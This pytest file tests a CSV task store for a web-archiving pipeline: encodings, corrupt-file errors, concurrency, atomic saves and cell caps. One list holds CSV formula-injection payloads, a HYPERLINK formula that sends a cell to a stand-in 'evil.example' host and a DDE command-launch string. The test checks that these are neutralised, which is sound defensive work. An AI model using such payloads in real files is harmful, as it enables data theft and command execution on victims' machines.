import codecs
import csv
import io
import os
import random
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from types import SimpleNamespace

import pytest

from pipeline.cli.main import main
from pipeline.records.errors import TaskFileError
from pipeline.records.task import CUT_MARK, MAX_TEXT_CHARS
from pipeline.store.task_csv import COLUMNS, FORMULA_STARTS, MAX_CELL_CHARS
from pipeline.store.tasks import TaskStore
from pipeline.web.urls import MAX_URL_CHARS
from tests.waiting import PATIENCE, wait_until

REPO = Path(__file__).resolve().parents[2]


def make_store(path: Path, n: int) -> TaskStore:
    store = TaskStore(path)
    for i in range(n):
        store.add(f"https://example.com/{i}", cat1="01_茶", cat2="历史")
    store.save()
    return store


def test_round_trip_keeps_every_field(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    store = make_store(path, 3)
    store.update(2, status="cleaned", title="用户的标题, with a comma", extracted_title="x",
                 chars=1234, images_total=5, images_ok=4, confidence=0.875,
                 error='said "no"\nthen yes', content_hash="ab" * 32)
    store.save()
    again = TaskStore(path)
    assert again.tasks() == store.tasks()
    t = again.get(2)
    assert (t.title, t.chars, t.images_ok) == ("用户的标题, with a comma", 1234, 4)
    assert t.status == "cleaned"
    assert t.error == 'said "no"\nthen yes'
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel on Chinese Windows


def test_columns_and_rows_a_person_added_are_kept(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    make_store(path, 2)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    rows[0].append("我的备注")
    rows[1].append("读过")
    rows[2].append("")
    # a person types a row at the end with only a URL (and a note)
    new_row = [""] * len(rows[0])
    new_row[rows[0].index("url")] = "HTTPS://Example.com/new?utm_source=x"
    new_row[-1] = "待读"
    dup_row = [""] * len(rows[0])
    dup_row[rows[0].index("url")] = "https://example.com/1"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([*rows, new_row, dup_row])

    store = TaskStore(path)
    store.save()
    again = TaskStore(path)
    assert again.columns[-1] == "我的备注"
    assert again.get(1).extra == {"我的备注": "读过"}
    new = again.get(3)
    assert (new.url, new.status) == ("https://example.com/new", "pending")
    assert new.extra["我的备注"] == "待读"
    assert new.original_url == "HTTPS://Example.com/new?utm_source=x"
    dup = again.get(4)
    assert (dup.status, dup.duplicate_of) == ("duplicate", 2)


def test_gbk_file_saved_by_excel_is_read(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    path.write_bytes("id,url,cat1\n1,https://a.com/,科技\n".encode("gbk"))
    assert TaskStore(path).get(1).cat1 == "科技"


@pytest.mark.parametrize(
    "body, message",
    [
        ("id,url,status\n1,https://a.com/,pending\nx,https://b.com/,pending\n", "line 3.*'id'"),
        ("id,url,status\n1,https://a.com/,finished\n", "line 2.*unknown status 'finished'"),
        ("id,url,status\n1,https://a.com/,pending,extra\n", "line 2.*4 cells"),
        ("id,url\n1,https://a.com/\n1,https://b.com/\n", "line 3.*id 1 appears twice"),
        ("id,link\n1,https://a.com/\n", "line 1.*no 'url' column"),
    ],
)
def test_malformed_file_names_the_line(tmp_path: Path, body: str, message: str) -> None:
    path = tmp_path / "tasks.csv"
    path.write_text(body, encoding="utf-8")
    with pytest.raises(TaskFileError, match=message):
        TaskStore(path)
    assert path.read_text(encoding="utf-8") == body  # nothing rewritten, nothing lost


def test_concurrent_updates_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    store = make_store(path, 20)
    per_thread = 250

    def work(seed: int) -> None:
        rng = random.Random(seed)
        for i in range(per_thread):
            task_id = rng.randint(1, 20)
            store.mutate(task_id, lambda t: setattr(t, "attempts", t.attempts + 1))
            store.update(rng.randint(1, 20), error=f"thread {seed}")
            if i % 50 == 0:
                store.save()

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    store.save()
    assert sum(t.attempts for t in store.tasks()) == 8 * per_thread
    assert sum(t.attempts for t in TaskStore(path).tasks()) == 8 * per_thread


def test_reconcile_reclaims_running_and_restores_lost_statuses(tmp_path: Path) -> None:
    store = make_store(tmp_path / "tasks.csv", 5)
    store.update(1, status="running")  # crashed mid-fetch: no output
    store.update(2, status="running")  # crashed mid-clean: raw exists
    store.update(3, status="pending")  # a lost batch of status words: clean exists
    store.update(4, status="failed", error="HTTP 404")
    store.update(5, status="cleaned")  # claims more than the archive has
    reached = {1: "pending", 2: "fetched", 3: "cleaned", 4: "fetched", 5: "fetched"}
    assert store.reconcile(lambda task: reached[task.id]) == 4
    statuses = [t.status for t in store.tasks()]
    assert statuses == ["pending", "fetched", "cleaned", "failed", "fetched"]


def test_save_if_due_batches_writes(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    store = TaskStore(path, flush_seconds=3600)
    store.add("https://a.com/")
    assert store.save_if_due()  # first save is due at once
    store.update(1, status="fetched")
    assert not store.save_if_due()
    assert TaskStore(path).get(1).status == "pending"
    store.save()
    assert TaskStore(path).get(1).status == "fetched"


_WRITER_TASKS = 400


def _writer_loop(path: Path) -> None:
    """Child process: rewrite tasks.csv as fast as it can until killed."""
    store = TaskStore(path)
    n = 0
    while True:
        n += 1
        store.update(1 + n % _WRITER_TASKS, attempts=n, error="x" * (n % 97))
        store.save()


def _changed_since(path: Path, mtime_ns: int) -> bool:
    return path.stat().st_mtime_ns != mtime_ns


@pytest.mark.skipif(not hasattr(os, "fork"), reason="kill -9 test needs fork (POSIX)")
def test_kill_9_never_leaves_a_torn_file(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    make_store(path, _WRITER_TASKS)
    rng = random.Random(7)
    killed_mid_write = 0
    for _ in range(60):
        before = path.stat().st_mtime_ns
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child never returns
            try:
                _writer_loop(path)
            finally:
                os._exit(1)
        wait_until(partial(_changed_since, path, before), "the child's first save")
        if rng.random() < 0.5:  # half the kills as a save is under way, half at any point
            wait_until(lambda: any(tmp_path.glob(".tasks.csv.*.tmp")), "a save under way")
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        killed_mid_write += any(tmp_path.glob(".tasks.csv.*.tmp"))
        store = TaskStore(path)  # must parse: old file or new, never torn
        assert len(store) == _WRITER_TASKS
        assert list(store.columns) == list(COLUMNS)
        store.update(1, attempts=0)
        store.save()  # a writer holding the lock cleans up what a killed one left
        assert not any(tmp_path.glob(".tasks.csv.*.tmp"))
    assert killed_mid_write > 0, "no kill landed inside a write; the test proved nothing"


def test_a_slow_save_spaces_the_next_ones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """At 100,000 tasks a save takes about a second: batching must not rewrite non-stop. The
    store reads the test's clock, so a save of a second costs no real time and no load can
    stretch or shorten it."""
    store_module = sys.modules[TaskStore.__module__]
    now = [1000.0]
    monkeypatch.setattr(store_module, "time", SimpleNamespace(monotonic=lambda: now[0]))
    store = TaskStore(tmp_path / "tasks.csv", flush_seconds=0)
    store.add("https://a.com/")
    assert store.save_if_due()

    real_write = store_module.write_atomic

    def slow_write(path: Path, data: bytes) -> os.stat_result:
        now[0] += 1.0  # the write takes a second
        return real_write(path, data)

    monkeypatch.setattr(store_module, "write_atomic", slow_write)
    store.update(1, status="cleaned")
    assert store.save_if_due()  # the first save cost nothing: the next is due at once
    assert store.save_interval == 19.0  # saves are 1 s in every 20: SAVE_SHARE
    store.update(1, status="localized")
    now[0] += 18.0
    assert not store.save_if_due()
    assert TaskStore(tmp_path / "tasks.csv").get(1).status == "cleaned"
    now[0] += 1.0
    assert store.save_if_due()
    assert TaskStore(tmp_path / "tasks.csv").get(1).status == "localized"


# -- a file that does not parse is never rewritten ------------------------------------------------


@pytest.fixture
def csv_limit() -> Iterator[None]:
    """The csv module's field limit is process-wide: put back whatever a test set."""
    before = csv.field_size_limit()
    yield
    csv.field_size_limit(before)


def kuaibu_file(path: Path, n: int = 5) -> str:
    """tasks.csv as Kuaibu writes it, task k titled "Tk" (line k + 1), as text to break."""
    store = make_store(path, n)
    for k in range(1, n + 1):
        store.update(k, title=f"T{k}", status="fetched")
    store.save()
    return path.read_bytes().decode("utf-8-sig")


def assert_never_rewritten(path: Path, message: str) -> None:
    """Loading fails naming the line, and neither the load nor a command that saves (``add``)
    changes a byte of the file."""
    before = path.read_bytes()
    with pytest.raises(TaskFileError, match=message) as caught:
        TaskStore(path)
    assert "\n" not in str(caught.value)  # one line, as the CLI and the window show it
    assert path.read_bytes() == before
    links = path.parent / "links.txt"
    links.write_text("https://example.com/new\n", encoding="utf-8")
    assert main(["add", str(links), "--archive", str(path.parent)]) == 1
    assert path.read_bytes() == before


def break_file(path: Path, text: str, old: str, new: str) -> None:
    assert text.count(old) == 1
    path.write_bytes(codecs.BOM_UTF8 + text.replace(old, new).encode("utf-8"))


def test_unterminated_quote_names_its_line(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    break_file(path, text, ",T2,", ',"T2,')  # a hand edit opens a quote it never closes
    assert_never_rewritten(path, r"line 3: a quoted cell in this row is never closed")


def test_unterminated_quote_in_a_long_file_names_its_line(tmp_path: Path,
                                                          csv_limit: None) -> None:
    """Past MAX_CELL_CHARS the csv module stops before the end of the file: still the quote."""
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path, n=1500)  # about 200 KB after the quote
    break_file(path, text, ",T2,", ',"T2,')
    assert_never_rewritten(path, r"line 3: a cell starting in this row runs past line \d+"
                                 r" and 100,000 characters: most likely a quote")


def test_stray_quote_closed_rows_later_names_both_lines(tmp_path: Path) -> None:
    """A second stray quote closes the first in the same column: the cell counts look right,
    and rows 3 and 4 would silently become part of task 2's title."""
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    text = text.replace(",T4,", ',T4",')
    break_file(path, text, ",T2,", ',"T2,')
    assert_never_rewritten(path, r"line 3: a quoted cell opened here holds the row on line 4"
                                 r" \('3,https://example.com/2,.*closed only on line 5")


def test_text_after_a_closing_quote_names_its_line(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    break_file(path, text, ",T3,", ',"T3" tea,')  # non-strict csv would read 'T3 tea'
    assert_never_rewritten(path, r"line 4: text after the closing quote")


def test_row_cut_by_a_line_break_outside_quotes_names_its_lines(tmp_path: Path) -> None:
    """Read as it stands, the two halves would be saved back as two wrong tasks."""
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    break_file(path, text, ",T2,", ",T2\r\npart two,")
    assert_never_rewritten(path, rf"line 3: the row is cut in pieces by line breaks up to line 4"
                                 rf" \(4 of its {len(COLUMNS)} cells here\)")


@pytest.mark.parametrize("edit, spill", [
    (lambda line: line.replace(",T2,", ",T2, with a comma,"), "''"),  # shifted; last cell empty
    (lambda line: line + ",我的备注", "'我的备注'"),  # typed past the last column
])
def test_cells_past_the_header_name_their_line(tmp_path: Path, edit: Callable[[str], str],
                                               spill: str) -> None:
    path = tmp_path / "tasks.csv"
    lines = kuaibu_file(path).split("\r\n")
    lines[2] = edit(lines[2])
    path.write_bytes(codecs.BOM_UTF8 + "\r\n".join(lines).encode("utf-8"))
    assert_never_rewritten(path, rf"line 3: {len(COLUMNS) + 1} cells but the header has"
                                 rf" {len(COLUMNS)}; cell {len(COLUMNS) + 1} \({spill}\)"
                                 r" has no column")


def test_empty_columns_without_a_name_are_not_data(tmp_path: Path) -> None:
    """Excel's trailing commas, in the header too: nothing would be lost, so the file reads
    (short rows are padded: a person may type just a URL)."""
    path = tmp_path / "tasks.csv"
    path.write_text("id,url,status,,\n1,https://a.com/,fetched,,\n2,https://b.com/,pending\n",
                    encoding="utf-8")
    store = TaskStore(path)
    assert [t.status for t in store.tasks()] == ["fetched", "pending"]
    assert store.columns[:3] == ["id", "url", "status"] and "" not in store.columns
    store.save()
    assert len(TaskStore(path)) == 2


@pytest.mark.parametrize("header, message", [
    ("id,url,note,note", r"line 1: columns 3 and 4 are both named 'note'"),
    ("id,url,,", r"line 1: columns 3 and 4 have no name but hold cells"),
])
def test_header_a_save_would_lose_cells_by(tmp_path: Path, header: str, message: str) -> None:
    path = tmp_path / "tasks.csv"
    path.write_text(f"{header}\n1,https://a.com/,读过,好\n", encoding="utf-8")
    assert_never_rewritten(path, message)


def test_undecodable_bytes_name_their_line(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    data = codecs.BOM_UTF8 + text.replace(",T3,", ",T3 _,").encode("utf-8")
    path.write_bytes(data.replace(b"T3 _", b"T3 \xff"))  # neither UTF-8 nor GB18030
    assert_never_rewritten(path, r"line 4: byte 0xFF is neither UTF-8 nor GB18030 text")


def test_utf16_without_a_byte_order_mark_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    path.write_bytes("id,url\r\n1,https://a.com/\r\n".encode("utf-16-le"))
    assert_never_rewritten(path, r"line 1: the file holds NUL characters")


@pytest.mark.parametrize("codec, bom, sep", [
    ("utf-16-le", codecs.BOM_UTF16_LE, "\t"),  # Excel's "Unicode text": tab-separated
    ("utf-16-be", codecs.BOM_UTF16_BE, ","),
])
def test_utf16_with_a_byte_order_mark_is_read(tmp_path: Path, codec: str, bom: bytes,
                                              sep: str) -> None:
    path = tmp_path / "tasks.csv"
    rows = [["id", "url", "cat1", "title", "我的备注"],
            ["1", "https://a.com/", "科技", 'a, "b"\tc', "读过"],
            ["", "https://b.com/x", "", "", ""]]
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    path.write_bytes(bom + buf.getvalue().encode(codec))
    store = TaskStore(path)
    t = store.get(1)
    assert (t.url, t.cat1, t.title, t.extra) == ("https://a.com/", "科技", 'a, "b"\tc',
                                                  {"我的备注": "读过"})
    assert store.get(2).url == "https://b.com/x"
    before = path.read_bytes()
    assert not store.save_if_due()  # a read never writes
    assert path.read_bytes() == before
    store.update(1, cat1="新闻")  # a real change is saved as the file is spelled
    store.save()
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF16_LE) and data.decode("utf-16").startswith(
        f"id{sep}url{sep}")
    assert TaskStore(path).tasks() == store.tasks()


def test_gb18030_file_is_read(tmp_path: Path) -> None:
    """Characters GBK lacks (four bytes in GB18030) too, e.g. the 𠮷 of 𠮷野家."""
    path = tmp_path / "tasks.csv"
    with pytest.raises(UnicodeEncodeError):
        "𠮷".encode("gbk")
    path.write_bytes("id,url,cat1\r\n1,https://a.com/,𠮷野家\r\n".encode("gb18030"))
    assert TaskStore(path).get(1).cat1 == "𠮷野家"


@pytest.mark.parametrize("module_limit", [None, sys.maxsize])
def test_oversize_cell_written_elsewhere_names_its_line(
    tmp_path: Path, csv_limit: None, module_limit: int | None
) -> None:
    """Whether the csv module's limit stops it (as Kuaibu sets it) or another user of csv has
    raised that limit and Kuaibu's own check does: one line naming it, no ``_csv.Error``."""
    if module_limit is not None:
        csv.field_size_limit(module_limit)
    path = tmp_path / "tasks.csv"
    path.write_text("id,url,title\r\n1,https://a.com/,ok\r\n2,https://b.com/,"
                    + "长" * 140_000 + "\r\n", encoding="utf-8")
    assert_never_rewritten(path, rf"line 3: .*{MAX_CELL_CHARS:,}")


# -- cells are bounded and inert ------------------------------------------------------------------


def test_a_140_kb_title_is_capped_and_the_file_reads_back(tmp_path: Path,
                                                          csv_limit: None) -> None:
    path = tmp_path / "tasks.csv"
    store = make_store(path, 2)
    huge = "标题" * 70_000
    store.update(1, title=huge, extracted_title=huge, error="Traceback " * 14_000)
    store.mutate(2, lambda t: setattr(t, "extracted_title", huge))
    exact = "x" * MAX_TEXT_CHARS
    store.add("https://example.com/exact", title=exact)
    store.save()
    t = store.get(1)
    for text in (t.title, t.extracted_title, t.error, store.get(2).extracted_title):
        assert len(text) == MAX_TEXT_CHARS and text.endswith(CUT_MARK)
    assert t.title == huge[: MAX_TEXT_CHARS - 1] + CUT_MARK
    assert store.get(3).title == exact  # at the limit: not cut
    assert path.stat().st_size < 20_000
    csv.field_size_limit(131_072)  # Python's default: any csv reader reads what Kuaibu wrote
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert len(list(csv.reader(f))) == 4
    assert TaskStore(path).tasks() == store.tasks()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1", "-2+3", "\t=1+1", "\r=1+1", "'=really starts with a quote", "''", "'", "'tis",
    "=", "plain 标题",
]


def test_formula_cells_are_written_inert_and_read_back_exactly(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    make_store(path, len(FORMULAS))
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    rows[0].append("=note")  # a person's column, its name a formula too
    for row in rows[1:]:
        row.append("")
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    store = TaskStore(path)
    for k, text in enumerate(FORMULAS, start=1):
        store.update(k, title=text, extracted_title=text, error=text, cat1=text,
                     extra={"=note": text})
    store.save()

    with open(path, encoding="utf-8-sig", newline="") as f:
        written = list(csv.reader(f))
    assert all(cell[:1] not in FORMULA_STARTS for row in written for cell in row)
    header = written[0]
    assert header[-1] == "'=note"
    titles = [row[header.index("title")] for row in written[1:]]
    assert titles[0] == "'" + FORMULAS[0]
    assert titles[6:10] == ["''=really starts with a quote", "'''", "'", "'tis"]
    again = TaskStore(path)
    assert again.columns[-1] == "=note"
    assert again.tasks() == store.tasks()
    for k, text in enumerate(FORMULAS, start=1):
        t = again.get(k)
        assert (t.title, t.extracted_title, t.error, t.cat1) == (text,) * 4
        assert t.extra == {"=note": text}


def test_guarded_cells_typed_by_a_person_are_read_as_meant(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    path.write_text("id,url,title,cat1\r\n1,https://a.com/,'=1+1,'tis\r\n", encoding="utf-8")
    t = TaskStore(path).get(1)
    assert (t.title, t.cat1) == ("=1+1", "'tis")


def test_a_typed_in_url_too_long_fails_with_the_reason(tmp_path: Path) -> None:
    path = tmp_path / "tasks.csv"
    long_url = "https://example.com/" + "茶" * 1_000  # 1,020 characters, 9,020 percent-encoded
    path.write_text(f"url\r\nhttps://example.com/ok\r\n{long_url}\r\n", encoding="utf-8")
    store = TaskStore(path)
    t = store.get(2)
    assert t.status == "failed"
    assert t.error == (f"link is {20 + 9 * 1_000:,} characters long once percent-encoded;"
                       f" the longest taken is {MAX_URL_CHARS:,}")
    with pytest.raises(ValueError, match="longest taken"):
        store.add("https://example.com/" + "x" * MAX_URL_CHARS)
    store.save()
    assert TaskStore(path).get(2).original_url == long_url


def test_status_on_a_corrupt_task_list_via_main_py(tmp_path: Path) -> None:
    """`python main.py status` as a person runs it: one line, exit 1, the file as it was."""
    path = tmp_path / "tasks.csv"
    text = kuaibu_file(path)
    break_file(path, text, ",T2,", ',"T2,')
    before = path.read_bytes()
    proc = subprocess.run(
        [sys.executable, str(REPO / "main.py"), "status", "--archive", str(tmp_path)],
        capture_output=True, timeout=PATIENCE, text=True,
    )
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        f"error: {path}, line 3: a quoted cell in this row is never closed, so the rest of the"
        ' file would be one cell; close it (a quote inside a cell is written "" and a cell'
        " holding one is put in quotes)"
    ]
    assert proc.stdout == ""
    assert path.read_bytes() == before
